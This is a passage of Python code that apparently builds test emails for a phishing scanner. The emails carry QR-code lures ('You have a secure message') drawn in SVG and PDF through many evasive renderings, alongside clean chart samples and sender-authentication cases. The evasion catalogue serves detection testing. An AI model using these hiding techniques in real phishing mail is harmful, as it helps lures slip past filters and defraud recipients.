              '<g visibility="hidden">%s</g><g>%s</g>' % (shown, undone))
    # A code drawn faint: black at 40%, a mid grey a phone reads.
    m = code(16)
    code_mail("en-290-svg-qr-faint.eml", m,
              '<g fill="#000" fill-opacity=".4">%s</g>'
              % dark(m, '<rect x="%d" y="%d" width="1" height="1"/>'))
    # Each module clipped to a square over the whole code, or masked by
    # a white mask: both draw the module.
    m = code(17)
    mods = "".join('<rect x="%d" y="%d" width="1" height="1" %s/>'
                   % (x, y, 'clip-path="url(#all)"' if (x + y) % 2 else
                      'mask="url(#white)"')
                   for y, r in enumerate(m) for x, v in enumerate(r) if v)
    code_mail("en-291-svg-qr-clipped-masked.eml", m,
              '<defs><clipPath id="all"><rect x="-4" y="-4" width="99" '
              'height="99"/></clipPath><mask id="white"><rect x="-4" y="-4" '
              'width="99" height="99" fill="#fff"/></mask></defs>%s' % mods)
    # Style sheets weighed as CSS weighs them: rect.m over .m, a rule
    # for descendants of what is not there, a sheet after the shapes, a
    # rule in @media after an @import, !important, "White" in capitals;
    # and dashed lines over the light modules whose dashes are gaps.
    m = code(18)
    cells = "".join('<rect class="m%s" x="%d" y="%d" width="1" height="1"/>'
                    % ("" if v else " l", x, y) for y, r in enumerate(m)
                    for x, v in enumerate(r))
    dashes = "".join('<line x1="0" y1="%d.5" x2="%d" y2="%d.5" stroke="#000"'
                     ' stroke-dasharray="0 1000"/>' % (y, len(m), y)
                     for y in range(len(m)))
    code_mail("en-292-svg-qr-style-weights.eml", m,
              '%s%s<style>@import url(x.css); rect.m{fill:#000} .m{fill:'
              '#fff} .nothing .m{fill:#fff} @media screen{rect.l{fill:White '
              '!important}}</style>' % (cells, dashes))
    # In an HTML page: a paragraph left open, a picture and a stray end
    # tag before the <svg>, whose modules the page's own sheet paints.
    m = code(19)
    cells = dark(m, '<rect class="k" x="%d" y="%d" width="1" height="1"/>')
    write("en-293-html-svg-page-style.eml", headers(frm, "You have a secure "
                                                    "message") +
          "Content-Type: text/html; charset=utf-8\n\n<html><head><style>"
          ".k{fill:#111} svg{background:#fff}</style></head><body><p>Scan "
          'the code to read your secure message.<img src="https://'
          'secure-mail-notice.example/logo.png" alt=""></a></mask><svg '
          'width="240" height="240" viewBox="-4 -4 %d %d"><g fill="#fff">%s'
          "</g></svg></body></html>\n" % (len(m) + 8, len(m) + 8, cells),
          "potential", "attach.qr_code", "url.risky_tld")
    # From the second review: qr-code-styling's square corners, each
    # finder an even-odd ring path clipping a dark square, and its
    # centre one square of three modules.
    m = code(20)
    n = len(m)
    corners, inner = finders(m)
    dots = dark(m, '<rect x="%d" y="%d" width="1" height="1"/>', inner)
    clips = "".join('<clipPath id="cs%d"><path clip-rule="evenodd" d="M %d '
                    '%d v 7 h 7 v -7 z M %d %d h 5 v 5 h -5 z"/></clipPath>'
                    '<clipPath id="cd%d"><rect x="%d" y="%d" width="3" '
                    'height="3"/></clipPath>' % (i, ox, oy, ox + 1, oy + 1, i,
                                                 ox + 2, oy + 2)
                    for i, (ox, oy) in enumerate(corners))
    paint = "".join('<rect x="%d" y="%d" width="7" height="7" clip-path="url('
                    '\'#cs%d\')" fill="#000"/><rect x="%d" y="%d" width="3" '
                    'height="3" clip-path="url(\'#cd%d\')" fill="#000"/>'
                    % (ox, oy, i, ox + 2, oy + 2, i)
                    for i, (ox, oy) in enumerate(corners))
    code_mail("en-294-svg-qr-finder-rings.eml", m,
              '<defs><clipPath id="dots">%s</clipPath>%s</defs><rect x="0" '
              'y="0" width="%d" height="%d" clip-path="url(\'#dots\')" '
              'fill="#4267b2"/>%s' % (dots, clips, n, n, paint))
    # An HTML mail of seventeen icons before the code, an empty <svg>
    # nested in it, a sheet in comment marks hiding the code for print
    # only, and its modules drawn by <use> inside a clip path with
    # decoys in a group clipped to an empty one.
    m = code(21)
    icons = "".join('<svg width="16" height="16"><circle cx="8" cy="8" r="6"/>'
                    '</svg>' for _ in range(17))
    uses = dark(m, '<use href="#mod" x="%d" y="%d"/>')
    decoys = "".join('<rect x="%d" y="%d" width="1" height="1"/>' % (x, y)
                     for y, r in enumerate(m) for x, v in enumerate(r)
                     if not v and (x * 7 + y) % 3 == 0)
    write("en-295-html-svg-icons-uses.eml", headers(frm, "You have a secure "
                                                    "message") +
          "Content-Type: text/html; charset=utf-8\n\n<html><head><style>"
          "<!-- @media print { rect, use { display: none } } --></style>"
          "</head><body><p>Scan the code to read your secure message.</p>"
          + icons + '<svg width="240" height="240" viewBox="-4 -4 %d %d">'
          '<svg></svg><defs><rect id="mod" width="1" height="1"/><clipPath '
          'id="code">%s</clipPath><clipPath id="none"></clipPath></defs><g '
          'clip-path="url(#none)">%s</g><rect x="0" y="0" width="%d" '
          'height="%d" clip-path="url(#code)" fill="#000"/></svg></body>'
          "</html>\n" % (len(m) + 8, len(m) + 8, uses, decoys, len(m),
                           len(m)),
          "potential", "attach.qr_code", "url.risky_tld")
    # An HTML attachment, the kits' "invoice.html", whose page draws the
    # code with an <svg> element.
    m = code(22)
    write("en-296-html-attachment-svg-qr.eml", headers(
        frm, "You have a secure message") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nOpen the attached "
        "message.\n\n--b1\nContent-Type: text/html; name=\"Message.html\"\n"
        'Content-Disposition: attachment; filename="Message.html"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64((
            "<html><body><p>Scan the code with your phone.</p><svg width="
            '"240" height="240" viewBox="-4 -4 %d %d">%s</svg></body>'
            "</html>" % (len(m) + 8, len(m) + 8, dark(
                m, '<rect x="%d" y="%d" width="1" height="1"/>'))).encode())
        + "\n--b1--\n", "potential", "attach.qr_code", "url.risky_tld")
    # qr-code-styling's "rounded" dots: a module with no dark neighbour a
    # disc, one with a neighbour a path with its far side a half disc, one
    # at a corner of two a path with that corner rounded, each turned
    # about its centre toward its neighbours, the rest squares; its
    # "extra-rounded" corner squares, rings of arcs with an even-odd
    # clip rule, and its "dot" corner dots: all clip paths, painted by a
    # dark square.
    m = code(23)
    n, s = len(m), 10
    corners, inner = finders(m)

    def on(x, y):
        return (0 <= x < n and 0 <= y < n and m[y][x] and
                (x, y) not in inner)

    def rounded(x, y):
        px, py, h = 20 + s * x, 20 + s * y, s / 2
        lt, rt, up, dn = on(x - 1, y), on(x + 1, y), on(x, y - 1), on(x, y + 1)
        k = lt + rt + up + dn
        if k == 0:
            return '<circle cx="%g" cy="%g" r="%g"/>' % (px + h, py + h, h)
        if k > 2 or (lt and rt) or (up and dn):
            return '<rect x="%g" y="%g" width="%g" height="%g"/>' % (
                px, py, s, s)
        if k == 2:
            turn = 90 if lt and up else 180 if up and rt else (
                -90 if rt and dn else 0)
            d = "M %g %gv %gh %gv %ga %g %g, 0, 0, 0, %g %g" % (
                px, py, s, s, -h, h, h, -h, -h)
        else:
            turn = 90 if up else 180 if rt else -90 if dn else 0
            d = "M %g %gv %gh %ga %g %g, 0, 0, 0, 0 %g" % (
                px, py, s, h, h, h, -s)
        return '<path d="%s" transform="rotate(%g,%g,%g)"/>' % (
            d, turn, px + h, py + h)
    dots = "".join(rounded(x, y) for y in range(n) for x in range(n)
                   if on(x, y))
    rings, cdots = "", ""
    for ox, oy in corners:
        x, y, u = 20 + s * ox, 20 + s * oy, s
        rings += ('<path clip-rule="evenodd" d="M %g %gv %ga %g %g, 0, 0, 0,'
                  ' %g %gh %ga %g %g, 0, 0, 0, %g %gv %ga %g %g, 0, 0, 0, %g '
                  '%gh %ga %g %g, 0, 0, 0, %g %gM %g %gh %ga %g %g, 0, 0, 1, '
                  '%g %gv %ga %g %g, 0, 0, 1, %g %gh %ga %g %g, 0, 0, 1, %g '
                  '%gv %ga %g %g, 0, 0, 1, %g %g"/>' % (
                      x, y + 2.5 * u, 2 * u, 2.5 * u, 2.5 * u, 2.5 * u,
                      2.5 * u, 2 * u, 2.5 * u, 2.5 * u, 2.5 * u, -2.5 * u,
                      -2 * u, 2.5 * u, 2.5 * u, -2.5 * u, -2.5 * u, -2 * u,
                      2.5 * u, 2.5 * u, -2.5 * u, 2.5 * u,
                      x + 2.5 * u, y + u, 2 * u, 1.5 * u, 1.5 * u,
                      1.5 * u, 1.5 * u, 2 * u, 1.5 * u, 1.5 * u, -1.5 * u,
                      1.5 * u, -2 * u, 1.5 * u, 1.5 * u, -1.5 * u,
                      -1.5 * u, -2 * u, 1.5 * u, 1.5 * u, 1.5 * u,
                      -1.5 * u))
        cdots += '<circle cx="%g" cy="%g" r="%g"/>' % (
            x + 3.5 * u, y + 3.5 * u, 1.5 * u)
    full = n * s + 40
    svg_mail("en-297-svg-qr-rounded-dots.eml", frm,
             "You have a secure message",
             ('<svg width="%d" height="%d" xmlns="http://www.w3.org/2000/svg">'
              '<defs><clipPath id="clip-path-background-color-0"><rect x="0" '
              'y="0" width="%d" height="%d"/></clipPath><clipPath id="clip-'
              'path-dot-color-0">%s</clipPath><clipPath id="clip-path-corners'
              '-square-color-0">%s</clipPath><clipPath id="clip-path-corners-'
              'dot-color-0">%s</clipPath></defs><rect x="0" y="0" height="%d" '
              'width="%d" clip-path="url(\'#clip-path-background-color-0\')" '
              'fill="#ffffff"/><rect x="0" y="0" height="%d" width="%d" '
              'clip-path="url(\'#clip-path-dot-color-0\')" fill="#6a1a4c"/>'
              '<rect x="0" y="0" height="%d" width="%d" clip-path="url(\'#'
              'clip-path-corners-square-color-0\')" fill="#000"/><rect x="0" '
              'y="0" height="%d" width="%d" clip-path="url(\'#clip-path-'
              'corners-dot-color-0\')" fill="#000"/></svg>'
              % ((full,) * 4 + (dots, rings, cdots) + (full,) * 8)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # Its "dots" dots with "dot" corners: a disc a module, each finder a
    # ring of two circles of arcs (even-odd) and a disc of three
    # modules.
    m = code(27)
    n = len(m)
    corners, inner = finders(m)
    dots = "".join('<circle cx="%d" cy="%d" r="5"/>' % (25 + 10 * x,
                                                        25 + 10 * y)
                   for y in range(n) for x in range(n)
                   if m[y][x] and (x, y) not in inner)
    for ox, oy in corners:
        cx, cy = 55 + 10 * ox, 55 + 10 * oy
        dots += ('<path fill-rule="evenodd" d="M%d %da35 35 0 1 0 70 0a35 35 '
                 '0 1 0 -70 0zM%d %da25 25 0 1 1 50 0a25 25 0 1 1 -50 0z"/>'
                 '<circle cx="%d" cy="%d" r="15"/>' % (cx - 35, cy, cx - 25,
                                                       cy, cx, cy))
    svg_mail("en-298-svg-qr-dots-round-finders.eml", frm,
             "You have a secure message",
             ('<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d">'
              '<g fill="#0b3d2e">%s</g></svg>' % (10 * n + 40, 10 * n + 40,
                                                  dots)).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # One outline round each dark region, as generators that merge the
    # modules draw it: one path, a hole wound against its region (the
    # nonzero rule), corners only where the outline turns.
    m = code(24)
    edges = {}
    for y, r in enumerate(m):
        for x, v in enumerate(r):
            if v:
                for a, b in (((x, y), (x + 1, y)), ((x + 1, y), (x + 1, y + 1)),
                             ((x + 1, y + 1), (x, y + 1)), ((x, y + 1), (x, y))):
                    if (b, a) in edges:
                        del edges[(b, a)]
                    else:
                        edges[(a, b)] = 1
    out = {}
    for a, b in sorted(edges):
        out.setdefault(a, []).append(b)
    d = ""
    while out:
        start = min(out)
        loop, at = [start], start
        while True:
            nxt = out[at].pop()
            if not out[at]:
                del out[at]
            if nxt == start:
                break
            loop.append(nxt)
            at = nxt
        pts = [p for i, p in enumerate(loop)
               if not ((loop[i - 1][0] == p[0] == loop[(i + 1) % len(loop)][0])
                       or (loop[i - 1][1] == p[1] ==
                           loop[(i + 1) % len(loop)][1]))]
        d += "M" + "L".join("%d %d" % p for p in pts) + "Z"
    code_mail("en-299-svg-qr-outline.eml", m, '<path fill="#000" d="%s"/>' % d)
    # Modules as <polygon>s and the finders' centres as <ellipse>s (a
    # design program's export), and a code of "M x y z" round-capped
    # dots.
    m = code(25)
    n = len(m)
    centres = [(3, 3), (n - 4, 3), (3, n - 4)]
    skip = set((cx + i, cy + j) for cx, cy in centres for i in (-1, 0, 1)
               for j in (-1, 0, 1))
    polys = "".join('<polygon points="%d,%d %d,%d %d,%d %d,%d"/>'
                    % (x, y, x + 1, y, x + 1, y + 1, x, y + 1)
                    for y, r in enumerate(m) for x, v in enumerate(r)
                    if v and (x, y) not in skip)
    code_mail("en-300-svg-qr-polygons.eml", m, '<g fill="#222">%s%s</g>' % (
        polys, "".join('<ellipse cx="%g" cy="%g" rx="1.5" ry="1.5"/>'
                       % (cx + .5, cy + .5) for cx, cy in centres)))
    m = code(26)
    code_mail("en-301-svg-qr-closed-dots.eml", m,
              '<path fill="none" stroke="#111" stroke-width=".9" '
              'stroke-linecap="round" d="%s"/>' % dark(m, "M%d.5 %d.5z"))
    # Decoys hidden by compound selectors (two classes, ids, an attribute
    # test) and the modules painted by an attribute rule, over a white
    # default: read by CSS's weights, the decoys are hidden and the
    # modules dark.
    m = code(28)
    light = [(x, y) for y, r in enumerate(m) for x, v in enumerate(r)
             if not v]
    decoys = ""
    for i, (x, y) in enumerate(light[::3]):
        kind = i % 3
        decoys += '<rect x="%d" y="%d" width="1" height="1" %s/>' % (
            x, y, ('class="m x"', 'id="d%d"' % i, 'data-decoy="1"')[kind])
    ids = ",".join("#d%d" % i for i in range(1, len(light[::3]), 3))
    code_mail("en-306-svg-qr-compound-selectors.eml", m,
              '<style>g{fill:#fff}.m.x{display:none}%s{display:none}'
              'rect[data-decoy]{visibility:hidden}rect[data-k="1"]'
              '{fill:#000}.m{fill:#000}</style><g>%s</g><g fill="#000">%s'
              '</g>' % (ids, dark(m, '<rect data-k="1" x="%d" y="%d" '
                                     'width="1" height="1"/>'), decoys))
    # Dark decoys among the modules, then painted over in white, as a
    # browser layers them; and white shapes that hide nothing over real
    # modules: faint (opacity), blended (multiply), masked, filtered.
    m = code(29)
    light = [(x, y) for y, r in enumerate(m) for x, v in enumerate(r)
             if not v]
    darkm = [(x, y) for y, r in enumerate(m) for x, v in enumerate(r) if v]
    covers = "".join('<rect x="%d" y="%d" width="1" height="1" fill="#fff"/>'
                     % p for p in light[::2])
    ghosts = "".join('<rect x="%d" y="%d" width="1" height="1" fill="#fff" %s/>'
                     % (p + (('opacity=".3"', 'style="mix-blend-mode:'
                              'multiply"', 'mask="url(#mk)"',
                              'filter="url(#fx)"')[i % 4],))
                     for i, p in enumerate(darkm[::5]))
    code_mail("en-307-svg-qr-painted-over.eml", m,
              '<defs><mask id="mk"><rect width="99" height="99" fill="#000"/>'
              '</mask><filter id="fx"><feFlood flood-opacity="0"/></filter>'
              '</defs><rect x="-4" y="-4" width="99" height="99" fill="#fff"/>'
              '%s%s%s%s' % (dark(m, '<rect x="%d" y="%d" width="1" '
                                    'height="1"/>'),
                            "".join('<rect x="%d" y="%d" width="1" '
                                    'height="1"/>' % p for p in light[::2]),
                            covers, ghosts))
    # Finders damaged as a phone's scanner reads past: a corner module
    # left out of each, a module of one's light ring drawn dark, two of
    # another's ring left out; the reader draws the finders whole.
    m = [list(r) for r in code(30)]
    n = len(m)
    for x, y, v in ((0, 0, 0), (n - 1, 0, 0), (n - 6, 1, 1),
                    (0, n - 1, 0), (1, n - 1, 0)):
        m[y][x] = v
    code_mail("en-308-svg-qr-finders-damaged.eml", m,
              dark(m, '<rect x="%d" y="%d" width="1" height="1"/>'))
    # qr-code-styling's "dot" corner squares as it writes them: each
    # ring one arc all but closed, and its hole another (the review's
    # finding: three points an arc read a whole circle as a square).
    m = code(31)
    n = len(m)
    corners, inner = finders(m)
    body = dark(m, '<rect x="%d" y="%d" width="1" height="1"/>', inner)
    rings = "".join('<path clip-rule="evenodd" d="M%g %ga3.5 3.5 0 1 0 0.01 0z'
                    'm0 1a2.5 2.5 0 1 1 -0.01 0Z"/><circle cx="%g" cy="%g" '
                    'r="1.5"/>' % (ox + 3.5, oy, ox + 3.5, oy + 3.5)
                    for ox, oy in corners)
    code_mail("en-311-svg-qr-arc-rings.eml", m,
              '<defs><clipPath id="c">%s%s</clipPath></defs><rect x="0" '
              'y="0" width="%d" height="%d" fill="#000" clip-path="url(#c)"/>'
              % (body, rings, n, n))
    # python-qrcode's path with a subpath of no area in every row, which
    # a browser draws as nothing (the review's finding: each cut every
    # module of the path into slivers).
    m = code(32)
    d = "".join("M%d,%dh1v1h-1z" % (x, y) for y, r in enumerate(m)
                for x, v in enumerate(r) if v)
    d += "".join("M0,%g V%g V%gz" % (y + .5, y + .55, y + .5)
                 for y in range(len(m)))
    code_mail("en-312-svg-qr-path-no-area-subpaths.eml", m,
              '<path fill="#000" d="%s"/>' % d)
    # A code inside a disc of filler modules (qr-code-styling's round
    # shape): the filler comes up to the code's one-module margin, so
    # the drawing is wider than any code; the finders are found inside.
    m = code(33)
    n = len(m)
    big = n + 2 * 9
    seed = 12345
    cells = []
    for y in range(big):
        for x in range(big):
            cx, cy = x - 9, y - 9
            if -1 <= cx <= n and -1 <= cy <= n:
                if 0 <= cx < n and 0 <= cy < n and m[cy][cx]:
                    cells.append((x, y))
                continue
            seed = (seed * 1103515245 + 12345) % 2 ** 31
            if ((x - big / 2 + .5) ** 2 + (y - big / 2 + .5) ** 2 <
                    (big / 2) ** 2 and seed >> 16 & 1):
                cells.append((x, y))
    svg_mail("en-313-svg-qr-in-filler-disc.eml", frm,
             "You have a secure message",
             ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 %d %d">'
              '<circle cx="%g" cy="%g" r="%g" fill="#fff"/>%s</svg>'
              % (big, big, big / 2, big / 2, big / 2, "".join(
                  '<rect x="%d" y="%d" width="1" height="1"/>' % c
                  for c in cells))).encode(),
             "potential", "attach.qr_code", "url.risky_tld")
    # python-qrcode's square drawer at a size ratio of 0.8: each module a
    # square a fifth smaller than its pitch, the finders' modules whole.
    m = code(34)
    n = len(m)
    fin = finders(m)[1]
    code_mail("en-314-svg-qr-modules-under-pitch.eml", m, "".join(
        '<rect x="%d" y="%d" width="1" height="1"/>' % (x, y)
        if (x, y) in fin else
        '<rect x="%g" y="%g" width=".8" height=".8"/>' % (x + .1, y + .1)
        for y, r in enumerate(m) for x, v in enumerate(r) if v))
    # A pie chart of arcs and a logo of curves: no code.
    pie, at = "", 0.0
    for i, share in enumerate((0.35, 0.25, 0.2, 0.12, 0.08)):
        a0, a1 = at * 2 * math.pi, (at + share) * 2 * math.pi
        at += share
        pie += ('<path fill="#%s" d="M150 150L%.3f %.3fA100 100 0 %d 1 %.3f '
                '%.3fZ"/>' % (("1f3b73", "2a4d8f", "3c66b0", "111111",
                               "5a7fc4")[i], 150 + 100 * math.cos(a0),
                              150 + 100 * math.sin(a0), share > .5,
                              150 + 100 * math.cos(a1),
                              150 + 100 * math.sin(a1)))
    logo = ('<path fill="#000" d="M20 20c10-10 30-10 40 0s10 30 0 40-30 10-40 '
            '0-10-30 0-40zM30 30q10-8 20 0t0 20-20 0z"/>')
    write("en-302-clean-svg-pie-chart.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Sales by region") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello Taro, sales by "
        "region, as a pie chart.\n\nMartin\n\n--b1\nContent-Type: "
        'image/svg+xml; name="regions.svg"\nContent-Disposition: '
        'attachment; filename="regions.svg"\nContent-Transfer-Encoding: '
        "base64\n\n" +
        b64(('<svg xmlns="http://www.w3.org/2000/svg" width="300" height='
             '"300">%s%s</svg>' % (logo, pie)).encode()) +
        "\n--b1--\n", "clean", "!attach.qr_code")
    # A line chart as a design program exports it: grid lines, a style
    # sheet's classes, round-capped points: no code.
    grid = "".join('<line class="g" x1="40" y1="%d" x2="300" y2="%d"/>'
                   % (y, y) for y in range(40, 280, 20)) + "".join(
        '<line class="g" x1="%d" y1="40" x2="%d" y2="260"/>' % (x, x)
        for x in range(40, 320, 20))
    pts = "".join("M%d %dh0" % (50 + 20 * i, 250 - (i * 37) % 180)
                  for i in range(13))
    write("en-285-clean-svg-line-chart.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Visitors by week") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello Taro, the "
        "visitors by week, as a chart.\n\nMartin\n\n--b1\nContent-Type: "
        'image/svg+xml; name="visitors.svg"\nContent-Disposition: '
        'attachment; filename="visitors.svg"\nContent-Transfer-Encoding: '
        "base64\n\n" +
        b64(('<svg xmlns="http://www.w3.org/2000/svg" width="320" height='
             '"300"><style>.g{stroke:#222;stroke-width:2}.p{fill:none;'
             'stroke:#c00;stroke-width:8;stroke-linecap:round}</style>%s'
             '<path class="p" d="%s"/></svg>' % (grid, pts)).encode()) +
        "\n--b1--\n", "clean", "!attach.qr_code")
    # A report's bar chart: rectangles and a legend's dots, no code.
    bars = "".join('<rect x="%d" y="%d" width="30" height="%d" fill="#2a4d8f"/>'
                   % (40 + 40 * i, 260 - h, h)
                   for i, h in enumerate((120, 80, 200, 150, 60, 180)))
    legend = "".join('<circle cx="%d" cy="290" r="5" fill="#333"/>' % (40 + 60 * i)
                     for i in range(4))
    write("en-270-clean-svg-chart.eml", headers(
        "Martin Weber <martin.weber@fabrikam.com>", "Q3 figures") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nHello Taro, the chart "
        "of the quarter is attached.\n\nMartin\n\n--b1\nContent-Type: "
        'image/svg+xml; name="q3.svg"\nContent-Disposition: attachment; '
        'filename="q3.svg"\nContent-Transfer-Encoding: base64\n\n' +
        b64(('<svg xmlns="http://www.w3.org/2000/svg" width="320" height='
             '"300"><rect width="320" height="300" fill="#fff"/>%s%s</svg>'
             % (bars, legend)).encode()) + "\n--b1--\n", "clean",
        "!attach.qr_code")


def pdf_review_samples():
    """Review 29's shapes of a PDF's vector QR code: stroked squares whose
    mitred corners fill each module, a dash pattern carried along a
    subpath and begun at a negative phase, a dark square clipped to the
    modules, a code in green, a graphics state 33 levels deep; and two
    pages that show no code although their paths hold one (strokes of
    no length under square caps, which PDF paints only under round
    caps; a code clipped away)."""
    url = "https://mfa-renew.mailbox-check.top/q?id=%d"

    def modules(n):
        m = qr_matrix(url % n, 0)
        return [(x, y) for y, row in enumerate(m) for x, v in
                enumerate(row) if v], len(m)

    def notice(fname, ops, sub="Reminder"):
        cs = b"\n".join(ops)
        PDFDRAW_SEEDS.append(cs)
        pdf_notice(fname, sub, pdf_page(cs, True))

    u = 4
    mods, n = modules(31)
    # Each module a square of half its side, stroked half a module wide:
    # the mitred corners fill the module.
    notice("en-348-pdf-qr-stroked-squares.eml", [b"q 0 G %d w" % (u // 2)] + [
        b"%d %d %d %d re S" % (100 + x * u + u // 4, 600 - y * u - 3 * u // 4,
                               u // 2, u // 2) for x, y in mods] + [b"Q"])
    # Each module the first of two one-module lines of one subpath,
    # dashed a module on, a module off: the pattern goes on along the
    # subpath, so the second line is a gap.
    mods, n = modules(32)
    notice("en-349-pdf-qr-dash-along-subpath.eml",
           [b"q 0 G %d w [%d %d] 0 d" % (u, u, u)] + [
               b"%d %d m %d %d l %d %d l S" % (
                   100 + x * u, 600 - y * u - u // 2, 100 + (x + 1) * u,
                   600 - y * u - u // 2, 100 + (x + 2) * u,
                   600 - y * u - u // 2) for x, y in mods] + [b"Q"])
    # Each module a line from a module before it to a module after, the
    # pattern a module on, a module off begun a module in: its phase
    # written u and -u by turns (the same place in the pattern).
    mods, n = modules(33)
    notice("en-350-pdf-qr-dash-negative-phase.eml",
           [b"q 0 G %d w" % u] + [
               b"[%d %d] %d d %d %d m %d %d l S" % (
                   u, u, u if k % 2 else -u, 100 + (x - 1) * u,
                   600 - y * u - u // 2, 100 + (x + 1) * u,
                   600 - y * u - u // 2)
               for k, (x, y) in enumerate(mods)] + [b"Q"])
    # The modules a clipping path, then one dark square painted over the
    # code: what shows is the modules (a browser's print of
    # qr-code-styling's clip path).
    mods, n = modules(34)
    notice("en-351-pdf-qr-clipped-square.eml", [b"q"] + [
        b"%d %d %d %d re" % (100 + x * u, 600 - (y + 1) * u, u, u)
        for x, y in mods] + [
        b"W n 0 0 0.4 rg %d %d %d %d re f Q" % (100, 600 - n * u, n * u,
                                                n * u)])
    # A code in pure green (luminance 0.59): phones read it.
    mods, n = modules(35)
    notice("en-352-pdf-qr-green.eml", [b"q 0 1 0 rg"] + [
        b"%d %d %d %d re f" % (100 + x * u, 600 - (y + 1) * u, u, u)
        for x, y in mods] + [b"Q"])
    # White set 33 levels deep and undone by its Q: the code drawn 32
    # deep is black.
    mods, n = modules(36)
    notice("en-353-pdf-qr-deep-q.eml", [b"q " * 33 + b"1 g Q"] + [
        b"%d %d %d %d re f" % (100 + x * u, 600 - (y + 1) * u, u, u)
        for x, y in mods] + [b"Q " * 32])
    # Review 31: a clipping path far beyond any page (twenty million
    # units a side) clips to the page.
    mods, n = modules(39)
    notice("en-364-pdf-qr-clip-beyond-page.eml",
           [b"q -10000000 -10000000 20000000 20000000 re W n 0 g"] + [
               b"%d %d %d %d re f" % (100 + x * u, 600 - (y + 1) * u, u, u)
               for x, y in mods] + [b"Q"])
    # Review 31: a table's pale shading, 40,000 cells (as many as a
    # drawing keeps), painted before the code in black (too large a
    # fuzzing seed: not one).
    mods, n = modules(40)
    cs = b"\n".join([b"0.85 g"] + [
        b"%.1f %.1f 2.5 0.3 re f" % (20 + (i % 200) * 2.8,
                                     20 + (i // 200) * 1.5)
        for i in range(40000)] + [b"0 g"] + [
        b"%d %d %d %d re f" % (100 + x * u, 740 - (y + 1) * u, u, u)
        for x, y in mods])
    pdf_notice("en-365-pdf-qr-after-pale-shading.eml", "Reminder",
               pdf_page(cs, True))
    # Review 32: a code in green below a black letterhead rule.
    mods, n = modules(41)
    notice("en-378-pdf-qr-green-beside-black-rule.eml",
           [b"q 0 g 72 740 468 0.8 re f Q q 0 1 0 rg"] + [
               b"%d %d %d %d re f" % (100 + x * u, 600 - (y + 1) * u, u, u)
               for x, y in mods] + [b"Q"])

    def clean_pdf(fname, ops):
        cs = b"\n".join(ops)
        PDFDRAW_SEEDS.append(cs)
        write(fname, headers(
            "Martin Weber <martin.weber@fabrikam.com>", "Site plan") +
            'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
            "Content-Type: text/plain; charset=utf-8\n\nHello, the site "
            "plan is attached.\n\nMartin\n\n--b1\nContent-Type: "
            'application/pdf; name="Site_plan.pdf"\nContent-Disposition: '
            'attachment; filename="Site_plan.pdf"\n'
            "Content-Transfer-Encoding: base64\n\n" +
            b64(pdf_page(cs, True)) + "\n--b1--\n", "clean",
            "!attach.qr_code")

    # Strokes of no length under square caps: PDF paints none.
    mods, n = modules(37)
    clean_pdf("en-354-clean-pdf-square-caps-degenerate.eml",
              [b"q 0 G 2 J %d w" % u] + [
                  b"%d %d m %d %d l" % (
                      100 + x * u + u // 2, 600 - y * u - u // 2,
                      100 + x * u + u // 2, 600 - y * u - u // 2)
                  for x, y in mods] + [b"S Q BT /F1 12 Tf 72 700 Td "
                                       b"(Site plan) Tj ET"])
    # Review 31: the bytes of a photograph hold "/JS" (as 3 bytes in
    # 16 million do by chance): no JavaScript.
    rnd = random.Random(31)
    jpeg = bytearray(rnd.getrandbits(8) for _ in range(12000))
    jpeg[:4] = b"\xff\xd8\xff\xe0"
    jpeg[5000:5004] = b"/JS\x17"
    jpeg[9000:9004] = b"/JS("
    photo = (b"%%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> "
             b"endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> "
             b"endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox "
             b"[0 0 612 792] /Resources << /XObject << /Im1 5 0 R >> >> "
             b"/Contents 4 0 R >> endobj\n4 0 obj << /Length 31 >>\n"
             b"stream\nq 200 0 0 100 50 600 cm /Im1 Do Q\nendstream\n"
             b"endobj\n5 0 obj << /Type /XObject /Subtype /Image /Width "
             b"200 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
             b"/Filter /DCTDecode /Length %d >>\nstream\n" % len(jpeg) +
             bytes(jpeg) + b"\nendstream\nendobj\ntrailer << /Root 1 0 R "
             b">>\n%EOF\n")
    photo_mail("en-366-clean-pdf-js-bytes-in-photo.eml", photo)
    # A code drawn inside a clip that lies elsewhere on the page.
    mods, n = modules(38)
    clean_pdf("en-355-clean-pdf-code-clipped-away.eml",
              [b"q 400 100 50 50 re W n 0 g"] + [
                  b"%d %d %d %d re f" % (100 + x * u, 600 - (y + 1) * u, u,
                                         u) for x, y in mods] + [
                  b"Q BT /F1 12 Tf 72 700 Td (Site plan) Tj ET"])


def sender_review_samples():
    """Review 30's shapes of the sender checks: Exchange's composite
    authentication passing what else failed (an ARC chain from a sealer
    the tenant trusts), a service writing in a colleague's name, replies
    sent to a look-alike, a look-alike Microsoft 365 tenant, the
    organisation's domain in front of another, and display names that
    show an address or a person otherwise than in plain ASCII."""
    def plain(text):
        return "Content-Type: text/plain; charset=utf-8\n\n" + text + "\n"

    # Mail from the organisation's domain through a list or forwarder
    # whose ARC seal the tenant trusts: DMARC failed, composite
    # authentication passed with reason 130, as Microsoft documents.
    write("en-331-clean-arc-trusted-sealer.eml",
          "ARC-Authentication-Results: i=1; lists.example.org; spf=pass "
          "smtp.mailfrom=contoso.com; dkim=pass header.d=contoso.com; "
          "dmarc=pass header.from=contoso.com\n"
          "Authentication-Results: spf=fail (sender IP is 198.51.100.7) "
          "smtp.mailfrom=lists.example.org; dkim=fail (body hash did not "
          "verify) header.d=contoso.com;dmarc=fail action=none "
          "header.from=contoso.com;compauth=pass reason=130\n" +
